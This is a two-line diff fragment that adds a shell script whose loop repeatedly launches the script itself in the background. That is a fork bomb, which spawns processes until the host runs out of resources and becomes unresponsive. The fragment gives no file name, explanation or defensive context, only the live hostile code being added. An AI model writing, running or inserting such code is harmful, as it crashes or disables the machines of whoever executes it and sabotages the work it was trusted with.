@@ -1,0 +1,2 @@
+set -eu
+while true; do "$0" & done
